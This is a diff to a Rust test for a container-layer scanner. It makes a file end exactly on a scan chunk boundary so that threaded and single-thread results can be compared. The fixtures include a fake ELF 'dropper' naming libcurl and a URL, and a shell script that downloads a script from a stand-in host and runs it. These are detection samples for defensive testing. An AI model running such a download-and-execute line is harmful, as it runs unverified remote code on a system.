@@ -12,6 +12,7 @@ use md5::Digest as _;
 
 use super::*;
 use crate::fixture::{LayerBuilder, compress};
+use crate::layer::stream::CHUNK;
 use crate::layer::{
     Compression, ContentKind, LayerIndex, LayerInput, WalkContext, scan_layer, walk_tar,
 };
@@ -290,7 +291,7 @@ fn scan_with(tar: &[u8], limits: &Limits) -> LayerIndex {
 }
 
 /// A binary-looking file of `n` bytes that names a download library, its
-/// API and a URL (the strings straddle the pass's 64 KiB chunks).
+/// API and a URL (the strings straddle the pass's chunks).
 fn dropper(n: usize) -> Vec<u8> {
     let mut b = b"\x7fELF\x02\x01\x01\0".to_vec();
     let strings: &[u8] = b"\0libcurl.so.4\0curl_easy_perform\0http://203.0.113.9/x.bin\0";
@@ -310,26 +311,42 @@ fn dropper(n: usize) -> Vec<u8> {
 #[test]
 fn the_threaded_scan_records_what_one_thread_does() {
     let big = data(700_000);
+    let long = data(3 * CHUNK);
     let bin = dropper(300_000);
     let script = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh -o /tmp/i.sh && sh /tmp/i.sh\n";
     let status = b"Package: x\nStatus: install ok installed\n";
-    let tar = LayerBuilder::new()
-        .file("usr/bin/a", b"#!/bin/sh\necho a\n", 0o755)
-        .file("usr/local/bin/fetch", &bin, 0o755)
-        .hardlink("usr/local/bin/fetch2", "usr/local/bin/fetch")
-        .file("opt/get.sh", script, 0o755)
-        .hardlink("opt/get-link.sh", "opt/get.sh")
-        .file("usr/share/empty", b"", 0o644)
-        .file("usr/lib/big.so", &big, 0o644)
-        .hardlink("usr/lib/big-link.so", "usr/lib/big.so")
-        .hardlink("usr/lib/link-of-link.so", "usr/lib/big-link.so")
-        .file("usr/lib/edge", &big[..262_144 - 1536], 0o644)
-        .sparse("var/sparse", &[b'a'; 512], 4096)
-        .file("var/lib/dpkg/status", status, 0o644)
-        .file("var/cache/apt/archives/x.deb", &big[..300_000], 0o644)
-        .file("var/lib/apt/lists/Packages", b"Package: x\n", 0o644)
-        .file("etc/after", b"ok", 0o644)
-        .tar_bytes();
+    let layout = |edge: &[u8]| {
+        LayerBuilder::new()
+            .file("usr/bin/a", b"#!/bin/sh\necho a\n", 0o755)
+            .file("usr/local/bin/fetch", &bin, 0o755)
+            .hardlink("usr/local/bin/fetch2", "usr/local/bin/fetch")
+            .file("opt/get.sh", script, 0o755)
+            .hardlink("opt/get-link.sh", "opt/get.sh")
+            .file("usr/share/empty", b"", 0o644)
+            .file("usr/lib/big.so", &big, 0o644)
+            .hardlink("usr/lib/big-link.so", "usr/lib/big.so")
+            .hardlink("usr/lib/link-of-link.so", "usr/lib/big-link.so")
+            .file("usr/lib/edge", edge, 0o644)
+            .sparse("var/sparse", &[b'a'; 512], 4096)
+            .file("var/lib/dpkg/status", status, 0o644)
+            .file("var/cache/apt/archives/x.deb", &big[..300_000], 0o644)
+            .file("var/lib/apt/lists/Packages", b"Package: x\n", 0o644)
+            .file("etc/after", b"ok", 0o644)
+            .tar_bytes()
+    };
+    // `edge` ends exactly where a chunk of the pass does, a chunk or more
+    // after it starts.
+    let probe = layout(b"");
+    let start = tar::Archive::new(probe.as_slice())
+        .entries()
+        .unwrap()
+        .map(Result::unwrap)
+        .find(|e| e.path().unwrap().ends_with("usr/lib/edge"))
+        .unwrap()
+        .raw_file_position() as usize;
+    let edge_len = (start / CHUNK + 2) * CHUNK - start;
+    let tar = layout(&long[..edge_len]);
+    assert_eq!((start + edge_len) % CHUNK, 0);
     let one = walk_inline(&tar);
     let four = scan(&tar);
     assert_eq!(four.diff_id, Some(Sha256::of(&tar)));
